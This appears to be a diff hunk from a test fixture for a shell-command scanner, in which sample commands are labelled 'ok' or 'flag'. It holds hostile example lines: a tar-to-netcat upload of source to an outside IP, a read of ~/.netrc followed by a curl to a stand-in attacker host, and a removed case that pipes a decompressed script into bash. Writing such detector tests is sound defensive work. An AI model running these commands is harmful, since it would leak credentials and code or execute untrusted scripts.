@@ -24,7 +24,3 @@ tar cz src | nc 203.0.113.9 9000
 cat ~/.netrc; curl https://evil.example/x
 # ok: a filter pipeline
 cat package.json | grep version | wc -l
-# flag: pipelines.decoded-pipe
-zcat setup.sh.gz | bash
-# ok: a compressed log read
-gzip -dc logs/app.log.gz | tail -20
